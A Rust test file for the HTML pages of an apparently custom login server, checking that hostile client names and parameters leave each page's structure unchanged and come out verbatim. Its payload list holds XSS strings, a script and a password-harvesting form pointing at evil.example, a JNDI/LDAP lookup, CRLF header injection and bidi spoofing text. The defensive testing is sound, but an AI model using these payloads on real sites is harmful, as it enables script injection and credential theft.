//! Names and texts that others chose stay texts (attacks 9 and 53): whatever they hold, the page has the same elements
//! with the same attributes as with a harmless name, and says the name letter for letter.

use web::{
    ClientShown, FormError, Page, PlainUrl, Shown, WebAddress,
    error_page::ErrorPage,
    page::Sample,
    pages::{FormPostPage, FrontChannelLogoutPage, LoggedOutPage, LogoutConfirmPage, LogoutFrame, PageExpiredPage},
};
use web_login::{AskedScope, ConsentPage, DeviceCodePage, DeviceConfirmPage, DeviceDonePage, DeviceOutcome, LoginPage};

use crate::document::Document;

const HOSTILE: [&str; 18] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' autofocus onfocus='alert(1)",
    "x\" style=\"display:none",
    "</title><script src=//evil.example/x.js></script>",
    "</noscript></form><form action=//evil.example><input name=password>",
    "</iframe></script></textarea><!--",
    "<!--",
    "]]><![CDATA[",
    "&lt;b&gt; &amp;quot; &#60;script&#62;",
    "{{ realm }} {% include \"x\" %} {# x #} {{7*7}}",
    "${jndi:ldap://evil.example} ${7*7} #{7*7} ${unknown}",
    "5;url=javascript:alert(1)",
    "a\r\nSet-Cookie: a=b\r\n\r\n<h1>",
    "\u{202e}drowssap ruoy epyT\u{2066}\u{200f}",
    "a\u{2028}b\u{2029}c\u{85}d\u{7f}e\u{1b}[31m",
    "\u{feff}\u{fffe}é漢😀",
    "a\0b",
];

/// Every page with `text` wherever somebody else's words stand.
fn every_page(text: &str) -> Vec<Sample> {
    let action = PlainUrl::sample;
    // An address can hold quotes and angle brackets too; where the text can't stand in one, another does.
    let address = || {
        let hostile = WebAddress::parse(&format!("https://notes.example/?a={text}"));
        hostile.unwrap_or_else(|| WebAddress::sample("/?a=b"))
    };
    let client = || ClientShown {
        name: Shown::name(text),
        logo: Some(address()),
        policy: Some(address()),
        terms: Some(address()),
    };
    let scopes = || vec![AskedScope::in_words(text, None), AskedScope::in_words("a", Some(text))];
    let error = || FormError::new(text, text);
    let login = || LoginPage::new(text, action()).client(client()).remember_me(true).notice(text).error(error());
    let frames = vec![LogoutFrame { client: Shown::name(text), logout_uri: address() }];
    let fields = vec![(text.to_owned(), text.to_owned()), ("state".to_owned(), text.to_owned())];
    let confirm = ConsentPage::new(text, action(), client(), scopes()).username(text);
    let device = DeviceConfirmPage::new(text, action(), client(), text, scopes()).username(text);
    let logout = LogoutConfirmPage::new(text, action()).field(text, text).username(text);
    let status = actix_web::http::StatusCode::BAD_REQUEST;
    let refusal = ErrorPage::new(status, text, text).realm(text).id(text).back(Some(address().into()));
    vec![
        rendered("login", &login().username(text)),
        rendered("login again", &login().again(text, action())),
        rendered("consent", &confirm),
        rendered("device code", &DeviceCodePage::new(text, action()).user_code(text).error(error())),
        rendered("device confirm", &device),
        rendered("device done", &DeviceDonePage::new(text, DeviceOutcome::Connected)),
        rendered("logout confirm", &logout.application(Some(address().into()))),
        rendered("logged out", &LoggedOutPage::new(text, Some(address().into()))),
        rendered("front channel", &FrontChannelLogoutPage::new(text, frames, Some(address().into()))),
        rendered("form post", &FormPostPage::new(text, address(), fields)),
        rendered("page expired", &PageExpiredPage::new(text, Some(action()))),
        rendered("error", &refusal),
    ]
}

fn rendered(name: &'static str, page: &impl Page) -> Sample {
    Sample::of(name, page).unwrap()
}

/// Elements with the names of their attributes. Where typing begins depends on whether there is a username.
fn skeleton(document: &Document) -> Vec<(String, Vec<String>)> {
    let attributes = |element: &crate::document::Element| {
        element.attributes.iter().map(|(name, _)| name.clone()).filter(|name| name != "autofocus").collect()
    };
    document.elements.iter().map(|element| (element.name.clone(), attributes(element))).collect()
}

fn is_as_with_a_harmless_name(text: &str) {
    for (harmless, hostile) in every_page("Field Notes").iter().zip(every_page(text)) {
        let (expected, found) = (Document::parse(&harmless.html), Document::parse(&hostile.html));
        assert_eq!(skeleton(&expected), skeleton(&found), "{} with {text:?}", hostile.name);
        assert_eq!(harmless.policy, hostile.policy, "{} with {text:?}", hostile.name);
        for element in &found.elements {
            let unmarked = |text: &str| !text.contains(['\u{202e}', '\u{2066}', '\u{200f}', '\u{1b}', '\0']);
            assert!(unmarked(&element.text), "{}: {element:?}", hostile.name);
            for attribute in ["alt", "title", "content"] {
                assert!(element.get(attribute).is_none_or(unmarked), "{}: {element:?}", hostile.name);
            }
        }
        let name = Shown::name(text);
        assert!(found.one("title").text.contains(name.as_str()), "{}: {:?}", hostile.name, found.one("title").text);
        // Only typed names and parameters, which aren't shortened, may make a page long.
        assert!(hostile.html.len() < 8_000 + 6 * 5 * text.len(), "{} has {}", hostile.name, hostile.html.len());
    }
}

#[test]
fn hostile_names_change_nothing_but_the_words() {
    for text in HOSTILE {
        is_as_with_a_harmless_name(text);
    }
}

#[test]
fn ten_thousand_characters_change_nothing_but_the_words() {
    for letter in ["a", "<", "\"", "&", "\u{202e}a", "漢", "${", "a\u{301}\u{301}\u{301}"] {
        is_as_with_a_harmless_name(&letter.repeat(10_000 / letter.chars().count()));
    }
}

#[test]
fn parameters_arrive_at_the_application_letter_for_letter() {
    for text in HOSTILE.iter().filter(|text| !text.contains(['\0', '\r'])) {
        let fields = vec![("state".to_owned(), (*text).to_owned())];
        let page = rendered("form post", &FormPostPage::new("a", WebAddress::sample("/"), fields));
        assert_eq!(Document::parse(&page.html).one("input").get("value"), Some(*text));
    }
}

#[test]
fn only_addresses_on_the_web_become_links_and_pictures() {
    let mut client = model::client::Client {
        id: model::id::ClientId("1".to_owned()),
        client_id: "notes".to_owned(),
        protocol: "openid-connect".to_owned(),
        enabled: true,
        settings: model::client::ClientSettings::default(),
        attributes: model::Attributes::new(),
        default_scopes: Vec::new(),
        optional_scopes: Vec::new(),
    };
    for (address, expected) in [
        ("https://notes.example/x", 1),
        ("http://notes.example/x", 1),
        ("javascript:alert(1)", 0),
        ("data:image/svg+xml,<svg/>", 0),
        ("//notes.example/x", 0),
        ("/x", 0),
        ("ftp://notes.example/x", 0),
    ] {
        for attribute in ["logoUri", "policyUri", "tosUri"] {
            client.attributes.insert(attribute.to_owned(), address.to_owned());
        }
        let page = LoginPage::new("a", PlainUrl::sample()).client(ClientShown::of(&client));
        let document = Document::parse(&rendered("login", &page).html);
        assert_eq!(
            document.all("img").filter(|image| image.get("src") == Some(address)).count(),
            expected,
            "{address}"
        );
        assert_eq!(document.all("a").filter(|link| link.get("href") == Some(address)).count(), 2 * expected);
        assert_eq!(document.id("kc-page-title").text, "Log in to notes");
    }
}
